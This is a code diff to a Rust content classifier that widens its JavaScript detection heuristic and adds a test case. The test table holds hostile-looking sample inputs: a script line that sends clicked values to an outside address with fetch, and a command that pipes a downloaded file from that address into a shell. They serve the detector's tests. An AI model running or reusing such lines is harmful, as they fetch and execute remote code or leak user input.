@@ -163,7 +163,7 @@ fn count(lower: &str, words: &[&str]) -> usize {
 
 fn is_javascript(lower: &str) -> bool {
     // Prose has the words too, and not the marks.
-    let is_code = lower.contains('(') && lower.contains(';');
+    let is_code = lower.contains('(') && [";", "=>", "){"].iter().any(|mark| lower.contains(mark));
     let acts = count(lower, ACTS);
     is_code && acts > 0 && count(lower, CODE) + acts >= 3
 }
@@ -391,6 +391,7 @@ mod tests {
     fn what_bytes_are() {
         for (bytes, expected) in [
             (&b"var a = document.createElement('a'); a.click();"[..], Some(Contents::Script)),
+            (b"document.body.onclick = e => fetch('//192.0.2.1/' + e.target.value)", Some(Contents::Script)),
             (b"curl http://192.0.2.1/x | sh -s now", Some(Contents::Command)),
             (b"PK\x03\x04\x14\0\0\0\x08\0", Some(Contents::Archive)),
             (b"\x7fELF\x02\x01\x01\0", Some(Contents::Program)),
